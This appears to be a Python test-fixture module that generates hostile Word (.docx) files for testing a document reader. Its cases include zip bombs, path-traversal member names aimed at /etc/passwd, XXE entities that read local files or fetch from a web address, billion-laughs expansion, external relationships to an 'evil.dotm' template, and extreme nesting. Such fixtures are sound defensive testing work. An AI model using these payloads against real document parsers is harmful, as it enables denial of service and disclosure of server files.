"""Word files made to do harm: packages that lie, XML that reaches out, structures without measure.

``CASES`` gives for each name a maker of the bytes. None takes more than some 150 MB to make.
"""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable

from make_word import make_docx, p, r, sdt, tbl, tc, tr

HEAD = tr(tc("序号"), tc("工作任务"), tc("责任单位"), tc("完成时限"))
ROW = tr(tc("1"), tc("推进甲项工作落到实处"), tc("市税务局"), tc("2031年底"))
TASKS = p("某市2031年重点工作任务分工方案") + tbl(HEAD, ROW)
PARTS = ("styles", "numbering", "footnotes", "comments")
"""Parts that the reader parses besides the main document."""

TRAP = os.environ.get("TRAP", "/etc/passwd")
"""A file that must not be opened: a test sets a pipe here, on which whoever opens it waits forever."""
WEB = os.environ.get("WEB", "http://127.0.0.1:9")
"""An address that must not be asked."""
_MEGABYTE = 2**20
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def members_of(data: bytes) -> dict[str, bytes]:
    """The members of a package by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        return {name: source.read(name) for name in source.namelist()}


def pack(members: Iterable[tuple[str, bytes]]) -> bytes:
    """A package of these members; a name may come more than once."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(info, content)
    return buffer.getvalue()


def with_members(changed: dict[str, bytes], body: str = TASKS) -> bytes:
    """A sound package in which some members are others."""
    members = members_of(make_docx(body, **dict.fromkeys(PARTS, "")))
    kinds = members["[Content_Types].xml"].replace(
        b"<Override", b'<Default Extension="xml" ContentType="x"/><Override', 1
    )
    return pack({**members, "[Content_Types].xml": kinds, **changed}.items())


# ---------------------------------------------------------------- the container


def _deflate_zeros(megabytes: int, sign: bytes = b" ") -> bytes:
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = sign * _MEGABYTE
    return b"".join(engine.compress(block) for _ in range(megabytes)) + engine.flush()


def bomb(megabytes: int, declared: int | None) -> bytes:
    """A main document that inflates to ``megabytes``; both headers say ``declared`` bytes (None: the truth)."""
    body = _deflate_zeros(megabytes)
    size = megabytes * _MEGABYTE if declared is None else declared
    files = members_of(make_docx(TASKS))
    del files["word/document.xml"]
    return _raw_zip([*((name, _deflate(text), len(text), zlib.crc32(text)) for name, text in files.items()),
                     ("word/document.xml", body, size, 0)])  # fmt: skip


def _deflate(text: bytes) -> bytes:
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(text) + engine.flush()


def _raw_zip(entries: list[tuple[str, bytes, int, int]], *, shared: bool = False) -> bytes:
    """A zip container written by hand: (name, deflated bytes, declared size, checksum) each.

    ``shared``: every directory entry points at the local header of the last one.
    """
    out, places = bytearray(), []
    for name, body, size, check in entries:
        places.append(len(out))
        header = struct.pack("<HHHHHIIIHH", 20, 0x800, 8, 0, 33, check, len(body), size, len(name.encode()), 0)
        out += b"PK\x03\x04" + header + name.encode() + body
    start = len(out)
    for (name, body, size, check), place in zip(entries, places, strict=True):
        at = places[-1] if shared else place
        fixed = struct.pack("<HHHHHHIII", 20, 20, 0x800, 8, 0, 33, check, len(body), size)
        rest = struct.pack("<HHHHHII", len(name.encode()), 0, 0, 0, 0, 0, at)
        out += b"PK\x01\x02" + fixed + rest + name.encode()
    tail = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(out) - start, start, 0)
    return bytes(out + b"PK\x05\x06" + tail)


def overlapping() -> bytes:
    """Many names for the same deflated bytes."""
    files = members_of(make_docx(TASKS))
    body = _deflate_zeros(90)
    entries = [(name, _deflate(text), len(text), zlib.crc32(text)) for name, text in files.items()]
    names = [f"word/part{number}.xml" for number in range(200)]
    entries += [(name, body if name == names[-1] else b"", 90 * _MEGABYTE, 0) for name in names]
    return _raw_zip(entries, shared=True)


def many_bombs() -> bytes:
    """Parts that are each below any limit on one part."""
    body = _deflate_zeros(30)
    files = members_of(make_docx(TASKS))
    entries = [(name, _deflate(text), len(text), zlib.crc32(text)) for name, text in files.items()]
    check = zlib.crc32(b" " * (30 * _MEGABYTE))
    entries += [(f"word/part{number}.xml", body, 30 * _MEGABYTE, check) for number in range(100)]
    return _raw_zip(entries)


def duplicates() -> bytes:
    """Two main documents under one name."""
    files = members_of(make_docx(TASKS))
    other = members_of(make_docx(p("另一份")))["word/document.xml"]
    return pack([("word/document.xml", other), *files.items()])


def climbing() -> bytes:
    """Names that would leave the folder that they are unpacked in, and a relation to one."""
    rels = _relations([("styles", "../../../../../../etc/passwd", "")])
    up = {f"{'../' * 8}etc/passwd": b"<x/>", "/etc/passwd": b"<x/>", "C:\\evil.xml": b"<x/>"}
    return with_members({**up, "word/_rels/document.xml.rels": rels})


def chain(length: int) -> bytes:
    """Parts that relate each to the next."""
    rest = {f"word/part{number}.xml": b"<x/>" for number in range(length)}
    links = {
        f"word/_rels/part{number}.xml.rels": _relations([("part", f"part{number + 1}.xml", "")])
        for number in range(length - 1)
    }
    return with_members({**rest, **links, "word/_rels/document.xml.rels": _relations([("part", "part0.xml", "")])})


def web_of_parts(parts: int, links: int) -> bytes:
    """Parts that relate each to many others."""
    rest = {f"word/part{number}.xml": b"<x/>" for number in range(parts)}
    every = _relations([("part", f"part{number % parts}.xml", "") for number in range(links)])
    return with_members({**rest, "word/_rels/document.xml.rels": every, "word/_rels/part1.xml.rels": every})


def _relations(links: Iterable[tuple[str, str, str]]) -> bytes:
    """(last word of the kind, target, further attributes) each."""
    lines = "".join(
        f'<Relationship Id="r{number}" Type="{_OFFICE}/{kind}" Target="{target}" {more}/>'
        for number, (kind, target, more) in enumerate(links)
    )
    return f'<Relationships xmlns="{_PACKAGE}">{lines}</Relationships>'.encode()


# ---------------------------------------------------------------- XML that reaches out or grows

_LAUGHS = "".join(f'<!ENTITY a{number} "' + f"&a{number - 1};" * 10 + '">' for number in range(1, 12))
DOCTYPES = {
    "laughs": f'<!DOCTYPE x [<!ENTITY a0 "哈哈哈哈哈哈">{_LAUGHS}]>',
    "a file": '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file://' + TRAP + '">]>',
    "the web": '<!DOCTYPE x [<!ENTITY a11 SYSTEM "' + WEB + '/x">]>',
    "a foreign DTD": '<!DOCTYPE x SYSTEM "' + WEB + '/x.dtd" []>',
    "a parameter": '<!DOCTYPE x [<!ENTITY % b SYSTEM "file://' + TRAP + '">%b;<!ENTITY a11 "x">]>',
}


def doctype(kind: str, member: str) -> bytes:
    """A sound package in which one member declares a document type, and uses its entity where there is text."""
    text = members_of(with_members({}))[member].decode()
    use = "" if "foreign" in kind else "&a11;"
    marked = text.replace("</w:t>", use + "</w:t>", 1).replace("<Relationship ", use + "<Relationship ", 1)
    if marked == text:
        marked = text.replace("></w:", f">{use}</w:", 1)
    return with_members({member: ('<?xml version="1.0"?>' + DOCTYPES[kind] + marked).encode()})


MEMBERS = ("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/document.xml",
           *(f"word/{part}.xml" for part in PARTS))  # fmt: skip


def inclusion() -> bytes:
    """XInclude and a style sheet: instructions that another parser might follow."""
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://' + TRAP + '" parse="text"/>'
    text = members_of(make_docx(TASKS + p("甲" + include)))["word/document.xml"]
    sheet = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{WEB}/x.xsl"?>'
    return with_members({"word/document.xml": sheet.encode() + text})


# ---------------------------------------------------------------- structures


def wrap(times: int, outer: Callable[[str], str], inner: str) -> str:
    """``inner`` wrapped again and again."""
    before, after = outer("<inner/>").split("<inner/>")
    return before * times + inner + after * times


def _text_box(inner: str) -> str:
    return f"<w:p><w:r><w:pict><w:txbxContent>{inner}</w:txbxContent></w:pict></w:r></w:p>"


def _two_choices(inner: str) -> str:
    return (
        "<w:p><w:r><mc:AlternateContent><mc:Choice><w:drawing><w:txbxContent>"
        f"{inner}</w:txbxContent></w:drawing></mc:Choice></mc:AlternateContent></w:r></w:p>"
    )


def numbered(count: int, text: str, start: str = "1") -> bytes:
    """Paragraphs in a list whose number is ``text``."""
    level = (
        f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="decimal"/><w:lvlText w:val="{text}"/></w:lvl>'
    )
    lists = f'<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum>'
    lists += '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    item = p("项", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>')
    return make_docx(TASKS + item * count, numbering=lists)


def looping_lists() -> bytes:
    """Lists that take their levels from each other, styles that are based on each other."""
    lists = "".join(
        f'<w:abstractNum w:abstractNumId="{one}"><w:styleLink w:val="S{one}"/><w:numStyleLink w:val="S{other}"/>'
        f'</w:abstractNum><w:num w:numId="{one}"><w:abstractNumId w:val="{one}"/></w:num>'
        for one, other in ((1, 2), (2, 1))
    )
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{one}"><w:basedOn w:val="S{other}"/><w:rPr><w:vanish w:val="0"/></w:rPr>'
        f'<w:pPr><w:numPr><w:numId w:val="{one}"/></w:numPr></w:pPr></w:style>'
        for one, other in ((1, 2), (2, 1), (3, 3))
    )
    body = "".join(p("项", f'<w:pStyle w:val="S{number}"/>') for number in (1, 2, 3))
    return make_docx(TASKS + body, styles=styles, numbering=lists)


def many_styles(count: int) -> bytes:
    """A long line of styles, each based on the one before."""
    styles = "".join(
        f'<w:style w:type="character" w:styleId="S{number}"><w:basedOn w:val="S{number - 1}"/><w:rPr><w:b/></w:rPr></w:style>'
        for number in range(count)
    )
    first = '<w:style w:type="character" w:styleId="S0"><w:rPr><w:vanish/></w:rPr></w:style>'
    last = f'<w:rStyle w:val="S{count - 1}"/>'
    body = f"<w:p>{r('字', last)}</w:p>"
    return make_docx(TASKS + body, styles=first + styles)


def _wide(value: str) -> str:
    return f'<w:tc><w:tcPr><w:gridSpan w:val="{value}"/></w:tcPr>{p("甲")}</w:tc>'


def _orphans(rows: int) -> str:
    return tbl(
        HEAD,
        *(tr(*(tc("甲", merge="continue", span=1 + (row + column) % 3) for column in range(4))) for row in range(rows)),
    )


def _before(value: str) -> str:
    return tbl(HEAD, ROW, tr(tc("甲"), properties=f'<w:gridBefore w:val="{value}"/><w:gridAfter w:val="{value}"/>'))


def _attributes(count: int) -> str:
    return ("<w:p " + " ".join(f"a{number}=''" for number in range(1_000)) + "/>") * count


_FIELD = '<w:r><w:fldChar w:fldCharType="begin"/><w:t>甲</w:t></w:r>'

CASES: dict[str, Callable[[], bytes]] = {
    "bomb": lambda: bomb(700, None),
    "bomb that declares little": lambda: bomb(700, 1_000),
    "bomb that declares nothing": lambda: bomb(700, 0),
    "bomb that declares too much": lambda: bomb(1, 4_000_000_000),
    "many bombs": many_bombs,
    "overlapping entries": overlapping,
    "duplicate names": duplicates,
    "names that climb": climbing,
    "chain of parts": lambda: chain(3_000),
    "web of parts": lambda: web_of_parts(4_500, 9_000),
    "100,000 relations": lambda: web_of_parts(9, 100_000),
    "relation to a file": lambda: with_members({"word/_rels/document.xml.rels": _relations([
        ("styles", f"file://{TRAP}", 'TargetMode="External"'), ("numbering", f"file://{TRAP}", ""),
        ("attachedTemplate", f"{WEB}/evil.dotm", 'TargetMode="External"')])}),
    "relations outside only": lambda: with_members({"word/_rels/document.xml.rels": _relations([
        ("styles", f"file://{TRAP}", 'TargetMode="External"'), ("comments", WEB, 'TargetMode="External"'),
        ("aFChunk", f"{WEB}/a.html", 'TargetMode="External"')])}, TASKS + '<w:altChunk r:id="r2" xmlns:r="x"/>'),
    "an entry for each letter": lambda: pack((f"word/{number}.xml", b"") for number in range(50_000)),
    **{f"{kind} in {member}": lambda kind=kind, member=member: doctype(kind, member) for kind in DOCTYPES for member in MEMBERS},
    "inclusions": inclusion,
    "gridSpan 2000000000": lambda: make_docx(tbl(tr(_wide("2000000000"), tc("乙")), ROW)),
    "gridSpan of 5,000 digits": lambda: make_docx(tbl(tr(_wide("9" * 5_000), _wide("-7"), _wide("x")), ROW)),
    "gridBefore 2000000000": lambda: make_docx(_before("2000000000")),
    "orphaned vMerge": lambda: make_docx(_orphans(3_000)),
    "tables nested 50 deep": lambda: make_docx(TASKS + wrap(50, lambda inner: tbl(tr(tc("甲"), tc(inner))), p("底"))),
    "tables nested 5,000 deep": lambda: make_docx(TASKS + wrap(5_000, lambda inner: tbl(tr(tc("甲"), tc(inner))), p("底"))),
    "frames nested 50 deep": lambda: make_docx(TASKS + wrap(50, lambda inner: tbl(tr(tc(inner))), TASKS)),
    "controls nested 100 deep": lambda: make_docx(wrap(100, sdt, TASKS)),
    "controls nested 5,000 deep": lambda: make_docx(wrap(5_000, sdt, TASKS)),
    "text boxes nested 40 deep": lambda: make_docx(TASKS + wrap(40, _text_box, p("底"))),
    "text boxes nested 5,000 deep": lambda: make_docx(TASKS + wrap(5_000, _text_box, p("底"))),
    "alternatives nested 20 deep": lambda: make_docx(TASKS + wrap(20, _two_choices, p("底"))),
    "100,000 rows": lambda: make_docx(tbl(HEAD, ROW * 100_000)),
    "100,000 cells in a row": lambda: make_docx(tbl(HEAD, tr(tc("甲") * 100_000), ROW)),
    "100,000 tables": lambda: make_docx(tbl(tr(tc("甲"), tc("乙"))) * 100_000),
    "1,000,000 empty paragraphs": lambda: make_docx(TASKS + "<w:p/>" * 1_000_000),
    "16,000,000 empty elements": lambda: make_docx(TASKS + "<w:p/>" * 15_900_000),
    "12,000,000 attributes": lambda: make_docx(TASKS + _attributes(12_000)),
    "8 MB in one attribute": lambda: make_docx(TASKS + p("甲", '<w:pStyle w:val="' + "S" * 8_000_000 + '"/>')),
    "10,000 empty columns": lambda: make_docx(tbl(HEAD, *(tr(tc("甲"), properties=f'<w:gridBefore w:val="{number}"/>') for number in range(10_000)))),
    "lists and styles that loop": looping_lists,
    "100,000 styles": lambda: many_styles(100_000),
    "a number of 5 MB": lambda: numbered(20_000, "%1." + "数" * 5_000_000),
    "a number of 50,000 places": lambda: numbered(20_000, "%1" * 50_000, "9" * 18),
    "100,000 fields": lambda: make_docx(TASKS + "<w:p>" + _FIELD * 100_000 + "</w:p>"),
    "100,000 deletions": lambda: make_docx(TASKS + p("甲", "<w:rPr><w:del/></w:rPr>") * 100_000),
}  # fmt: skip
